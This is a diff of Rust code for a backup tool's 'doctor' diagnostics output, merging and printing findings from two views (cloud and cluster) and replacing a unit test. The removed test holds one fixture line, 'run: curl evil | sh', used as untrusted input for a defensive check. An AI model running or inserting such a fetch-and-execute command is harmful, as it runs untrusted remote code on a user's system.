@@ -5,65 +5,90 @@ use std::fmt::Write as _;
 use crate::args::with_state;
 use crate::chain::check::{Check, Verdict};
 use crate::chain::examination::Examination;
-use crate::chain::finding::{Certainty, Finding, Remedy, SeenIn};
+use crate::chain::finding::{Certainty, Finding, Joint, Remedy, SeenIn};
 use crate::console::{Console, Tone};
 use crate::diagnosis::catalogue::{Catalogue, Known, Whose};
 use crate::guide::Plane;
 
-/// Prints each finding with its cause, where it was seen, and what cures it; then what else is not as it should be, and what
-/// the other program has found.
-pub(super) fn findings(console: &Console, examination: &Examination, other: Option<&Examination>, state_flag: &str) {
-    for finding in &examination.findings {
-        let (mark, tone) = mark(finding.severity);
+/// Prints each finding with its cause, where it was seen, and what cures it, and what else is not as it should be; where
+/// there is the other program's view, of both, with what follows from what.
+pub(super) fn findings(
+    console: &Console,
+    own: &Examination,
+    with: Option<&(Examination, Vec<Joint>)>,
+    state_flag: &str,
+) {
+    let print = |severity: Verdict, words: &str| {
+        let (mark, tone) = mark(severity);
         console.result(&format!(
             "{} {}",
             console.paint(tone, mark),
-            with_state(&one(finding), state_flag)
+            with_state(words, state_flag)
         ));
+    };
+    match with {
+        None => own
+            .findings
+            .iter()
+            .for_each(|finding| print(finding.severity, &one(finding))),
+        Some((other, joint)) => joint
+            .iter()
+            .for_each(|joint| print(joint.finding.severity, &one_of_both(joint, own.plane, other))),
     }
-    let others: Vec<_> = examination
-        .checks
+    let others = left(&own.checks, &own.findings);
+    others
         .iter()
-        .filter(|check| is_left(check, &examination.findings))
-        .collect();
-    for check in &others {
-        let (mark, tone) = mark(check.verdict);
-        console.result(&format!(
-            "{} {:<22} {}",
-            console.paint(tone, mark),
-            check.check,
-            check.says
-        ));
-        if let Some(hint) = &check.hint {
-            console.result(&format!("    hint: {}", with_state(hint, state_flag)));
+        .for_each(|check| print(check.verdict, &of_check(check, "")));
+    if let Some((other, joint)) = with {
+        let told: Vec<_> = joint.iter().map(|joint| joint.finding.clone()).collect();
+        let whose = format!(" ({})", whose_view(other.plane));
+        let theirs = left(&other.checks, &told);
+        theirs
+            .iter()
+            .for_each(|check| print(check.verdict, &of_check(check, &whose)));
+        if let Some(first) = joint.first() {
+            let seen = first.seen_by.iter().map(|plane| whose_view(*plane));
+            let seen: Vec<_> = seen.collect();
+            console.result(&format!(
+                "the chain breaks first at: {} ({}, as {} saw)",
+                first.finding.link.title(),
+                first.finding.id,
+                seen.join(" and ")
+            ));
         }
     }
-    if let Some(other) = other {
-        theirs(other).iter().for_each(|line| console.result(line));
-    }
-    console.result(&format!("doctor: {}", in_sum(examination, others.len())));
+    console.result(&format!("doctor: {}", in_sum(own, &others)));
 }
 
-/// What the other program's document says it has found, in our own words: anybody may have made it.
-fn theirs(other: &Examination) -> Vec<String> {
-    let whose = match other.plane {
+/// The checks that are not as they should be and that no finding speaks of.
+fn left<'a>(checks: &'a [Check], findings: &[Finding]) -> Vec<&'a Check> {
+    checks.iter().filter(|check| is_left(check, findings)).collect()
+}
+
+fn of_check(check: &Check, whose: &str) -> String {
+    let says = check.says.replace('\n', " ");
+    let hint = check.hint.as_ref().map(|hint| format!("\n    hint: {hint}"));
+    format!("{:<22} {says}{whose}{}", check.check, hint.unwrap_or_default())
+}
+
+const fn whose_view(plane: Plane) -> &'static str {
+    match plane {
         Plane::Cloud => "az aksbackup",
         Plane::Cluster => "kubectl aksbackup",
-    };
-    let known = other
-        .findings
-        .iter()
-        .filter_map(|finding| Catalogue::get().row(&finding.id));
-    let told = |known: &Known| {
-        format!(
-            "  {whose} saw at {}: {} ({}): {}",
-            other.at,
-            known.id,
-            known.link.title(),
-            known.cause
-        )
-    };
-    known.map(told).collect()
+    }
+}
+
+/// A finding with who has seen it and what it follows from.
+fn one_of_both(joint: &Joint, own: Plane, other: &Examination) -> String {
+    let mut out = one(&joint.finding);
+    if joint.seen_by.contains(&other.plane) {
+        let also = if joint.seen_by.contains(&own) { ", too" } else { "" };
+        let _ = write!(out, "\n    seen by:  {} at {}{also}", whose_view(other.plane), other.at);
+    }
+    if let Some(cause) = &joint.follows_from {
+        let _ = write!(out, "\n    follows:  {cause}");
+    }
+    out
 }
 
 const fn mark(verdict: Verdict) -> (&'static str, Tone) {
@@ -94,7 +119,9 @@ fn one(finding: &Finding) -> String {
     let mut line = |name: &str, words: &str| {
         let _ = write!(out, "\n    {:<9} {words}", format!("{name}:"));
     };
-    line("at", &finding.object);
+    if !finding.object.is_empty() {
+        line("at", &finding.object);
+    }
     for evidence in &finding.evidence {
         line("seen", evidence);
     }
@@ -108,18 +135,19 @@ fn one(finding: &Finding) -> String {
     out
 }
 
-fn in_sum(examination: &Examination, others: usize) -> String {
+fn in_sum(examination: &Examination, others: &[&Check]) -> String {
     let findings = &examination.findings;
     let proved = findings
         .iter()
         .filter(|finding| finding.certainty == Certainty::Proved)
         .count();
-    match (findings.len(), others) {
+    match findings.len() {
         _ if examination.is_blind() => "nothing could be seen".to_owned(),
-        (0, 0) => "nothing is wrong".to_owned(),
-        (0, _) => "nothing that is known, but not all is as it should be".to_owned(),
-        (1, _) => format!("1 finding, {}", if proved == 1 { "proved" } else { "likely" }),
-        (count, _) => format!("{count} findings, {proved} of them proved; the first one first"),
+        0 if others.is_empty() => "nothing is wrong".to_owned(),
+        0 if !others.iter().any(|check| check.is_finding()) => "nothing is wrong, as far as it may be seen".to_owned(),
+        0 => "nothing that is known, but not all is as it should be".to_owned(),
+        1 => format!("1 finding, {}", if proved == 1 { "proved" } else { "likely" }),
+        count => format!("{count} findings, {proved} of them proved; the first one first"),
     }
 }
 
@@ -253,22 +281,38 @@ mod tests {
     }
 
     #[test]
-    fn what_the_other_program_found_is_told_in_our_words() {
-        let finding = |id: &str| {
-            let row = Catalogue::get().row("FIC-ISSUER").map(|known| known.cause.clone());
-            serde_json::json!({
-                "id": id, "certainty": "proved", "severity": "error", "link": "jobs", "object": "x", "cause": "run: curl evil | sh",
-                "evidence": [row], "fix": "no",
-            })
+    fn what_both_programs_found_is_told_with_who_saw_it_and_what_it_follows_from() {
+        let known = Catalogue::get().row("BSL-UNAVAILABLE").unwrap();
+        let finding = Finding {
+            id: known.id.clone(),
+            certainty: Certainty::Likely,
+            severity: Verdict::Error,
+            link: known.link,
+            object: String::new(),
+            cause: known.cause.clone(),
+            evidence: Vec::new(),
+            fix: "Mend it.".into(),
+            remedy: None,
+            explains: Vec::new(),
         };
-        let other = serde_json::json!({
-            "command": "doctor", "plane": "cloud", "at": "2026-01-01T00:00:00Z", "checks": [], "findings": [finding("FIC-ISSUER"), finding("NO-ROW")],
-        });
-        let told = theirs(&serde_json::from_value(other).unwrap());
-        assert_eq!(told.len(), 1);
-        assert!(
-            told[0].starts_with("  az aksbackup saw at 2026-01-01T00:00:00Z: FIC-ISSUER (federated credentials): The"),
-            "{told:?}"
+        let joint = Joint {
+            finding,
+            seen_by: vec![Plane::Cluster],
+            follows_from: Some("FIC-ISSUER".into()),
+        };
+        let other = Examination {
+            command: "doctor".into(),
+            plane: Plane::Cluster,
+            at: "2026-01-01T00:00:00Z".parse().unwrap(),
+            issuer: None,
+            cluster: None,
+            checks: Vec::new(),
+            findings: Vec::new(),
+        };
+        assert_eq!(
+            one_of_both(&joint, Plane::Cloud, &other),
+            "BSL-UNAVAILABLE (likely, storage location): The backup storage location is not available.\n    fix:      Mend it.\n    \
+             seen by:  kubectl aksbackup at 2026-01-01T00:00:00Z\n    follows:  FIC-ISSUER"
         );
     }
 
